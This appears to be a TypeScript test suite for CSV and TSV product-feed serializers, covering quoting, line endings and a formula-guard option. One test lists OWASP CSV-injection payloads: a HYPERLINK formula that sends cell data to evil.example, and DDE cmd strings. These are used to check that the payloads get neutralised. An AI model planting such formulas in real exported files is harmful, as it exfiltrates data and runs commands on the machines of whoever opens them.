import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { FeedRecord, SerializerId } from '../../src/channels/define-channel.js';
import { documentWriter, createSerializer } from '../../src/serializers/index.js';
import { REPEATABLE_PART } from '../../src/serializers/serializer.js';
import { HOSTILE } from './hostile-values.js';
import { expectedCell, parseTabular, type TabularKind } from './read-feed.js';

const header = { title: 't', link: 'l', description: 'd' };
const make = (kind: TabularKind, columns: string[], options?: Record<string, unknown>) =>
  documentWriter(createSerializer({ format: { id: kind, serializer: kind as SerializerId, ext: kind, contentType: 'text/plain' }, columns, header, options }));
const render = (kind: TabularKind, columns: string[], records: FeedRecord[], options?: Record<string, unknown>) => {
  const s = make(kind, columns, options);
  return s.header() + records.map((r) => s.item(r)).join('') + s.footer();
};
const columns = ['id', 'title', 'additional_image_link', 'shipping', 'missing'];
const records: FeedRecord[] = HOSTILE.map((v, i) => ({
  id: String(i),
  title: v,
  additional_image_link: [v, 'https://a/2.jpg'],
  shipping: [{ country: 'US', region: '', service: v, price: '4.95 USD' }],
}));

describe.each(['csv', 'tsv', 'tsv-quoted'] as const)('%s serializer', (kind) => {
  it('writes a header row from the columns and one row per record', () => {
    const rows = parseTabular(render(kind, columns, records), kind);
    expect(rows[0]).toEqual(columns);
    expect(rows.length).toBe(records.length + 1);
  });

  it('re-reads field by field for every hostile value', () => {
    const rows = parseTabular(render(kind, columns, records), kind);
    expect(rows.slice(1)).toEqual(records.map((r) => columns.map((c) => expectedCell(r[c], kind))));
  });

  it('joins arrays with commas and objects with colons, keeping empty positions', () => {
    const rows = parseTabular(render(kind, columns, [records[0]!]), kind);
    expect(rows[1]).toEqual(['0', 'plain', 'plain,https://a/2.jpg', 'US::plain:4.95 USD', '']);
  });

  it('round-trips arbitrary strings (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 2 }), ([a, b]) => {
        const rec = { id: 'x', title: a!, missing: b! };
        const rows = parseTabular(render(kind, columns, [rec]), kind);
        expect(rows[1]).toEqual(columns.map((c) => expectedCell(rec[c as keyof typeof rec], kind)));
      }),
      { numRuns: 300 },
    );
  });
});

describe('tsv serializer', () => {
  it('neutralises formula cells with formulaGuard, after tabs and breaks became spaces', () => {
    const rec = { a: '=1+1', b: '\t@SUM(A1)', c: '-3', d: '\tsafe' };
    const text = render('tsv', ['a', 'b', 'c', 'd'], [rec], { formulaGuard: true });
    expect(text.split('\n')[1]).toBe("'=1+1\t' @SUM(A1)\t-3\t safe");
    expect(render('tsv', ['a'], [{ a: '=1+1' }]).split('\n')[1]).toBe('=1+1');
  });
});

describe('csv serializer', () => {
  it('quotes only when needed and doubles quotes (RFC 4180)', () => {
    const text = render('csv', ['a', 'b', 'c'], [{ a: 'plain', b: 'say "hi"', c: 'x,y' }]);
    expect(text).toBe('a,b,c\nplain,"say ""hi""","x,y"\n');
  });

  it('leaves formula prefixes alone by default and guards them with formulaGuard', () => {
    const rec = { a: '=SUM(A1)', b: '+1', c: '-5%', d: '@x', e: 'safe' };
    const cols = ['a', 'b', 'c', 'd', 'e'];
    expect(parseTabular(render('csv', cols, [rec]), 'csv')[1]).toEqual(['=SUM(A1)', '+1', '-5%', '@x', 'safe']);
    // +1 is a number to every spreadsheet, not a formula: left as it is.
    expect(parseTabular(render('csv', cols, [rec], { formulaGuard: true }), 'csv')[1]).toEqual(["'=SUM(A1)", '+1', "'-5%", "'@x", 'safe']);
  });

  it("neutralises OWASP's formula cells, and quotes a `;` a semicolon spreadsheet would split at", () => {
    const cells = {
      link: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      dde: "+cmd|' /C calc'!A0",
      sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      minus: '-2+3+cmd|\' /C calc\'!A0',
      spaced: '  =1+1',
      tab: '\t=1+1',
      cr: '\r=1+1',
      split: 'Mug;=HYPERLINK("http://evil.example")',
      numbers: '-12.50',
      comma: '-0,5',
      plain: 'Mug - red',
    };
    const cols = Object.keys(cells);
    const text = render('csv', cols, [cells], { formulaGuard: true });
    expect(parseTabular(text, 'csv')[1]).toEqual([
      `'${cells.link}`, `'${cells.dde}`, `'${cells.sum}`, `'${cells.minus}`, "'  =1+1", "'\t=1+1", "'\r=1+1",
      cells.split, '-12.50', '-0,5', 'Mug - red',
    ]);
    expect(text).toContain('"Mug;=HYPERLINK(""http://evil.example"")"');
  });

  it('ends lines with LF by default and with eol when given', () => {
    expect(render('csv', ['a'], [{ a: '1' }])).toBe('a\n1\n');
    expect(render('csv', ['a'], [{ a: '1' }], { eol: '\r\n' })).toBe('a\r\n1\r\n');
  });
});

describe('tsv serializer', () => {
  it('replaces tabs and line breaks with single spaces and never quotes', () => {
    expect(render('tsv', ['a', 'b'], [{ a: 'x\ty', b: 'l1\r\nl2\nl3 "q"' }])).toBe('a\tb\nx y\tl1 l2 l3 "q"\n');
  });
});

describe.each(['csv', 'tsv', 'rss'] as const)('%s body parts', (kind) => {
  const serializer = createSerializer({ format: { id: kind, serializer: kind as SerializerId, ext: kind, contentType: 'text/plain' }, columns, header, options: undefined });
  const description = `${'Größe 😀 & "quoted", tab\there '.repeat(12)}<b>end</b>`;

  it('are the body, with a long value as a part of its own', () => {
    for (const r of [...records, { ...records[1]!, title: description }]) {
      const parts: string[] = [];
      serializer.bodyParts!(r, parts);
      expect(parts.join('')).toBe(serializer.body(r));
    }
    const parts: string[] = [];
    serializer.bodyParts!({ id: '1', title: description }, parts);
    const long = parts.filter((p) => p.length >= REPEATABLE_PART);
    expect(long).toHaveLength(1);
    expect(long[0]).not.toContain(kind === 'rss' ? '<g:title>' : '1');
  });
});

describe('tsv-quoted serializer (Google "Quoted fields")', () => {
  it('quotes only values with a tab, a line break, a quote or edge spaces, and doubles quotes', () => {
    const rec = { a: 'plain, with comma', b: '12" pan', c: '"leading quote', d: 'tab\there', e: 'two\nlines', f: 'trailing  ' };
    const text = render('tsv-quoted', ['a', 'b', 'c', 'd', 'e', 'f'], [rec]);
    expect(text.split('\n').slice(1).join('\n')).toBe('plain, with comma\t"12"" pan"\t"""leading quote"\t"tab\there"\t"two\nlines"\t"trailing  "\n');
    expect(parseTabular(text, 'tsv-quoted')[1]).toEqual(Object.values(rec));
  });

  it('writes the same bytes as plain TSV when no value needs quotes', () => {
    const rec = { a: 'Blue T-Shirt', b: '19.99 USD', c: 'a, b > c' };
    expect(render('tsv-quoted', ['a', 'b', 'c'], [rec])).toBe(render('tsv', ['a', 'b', 'c'], [rec]));
  });
});
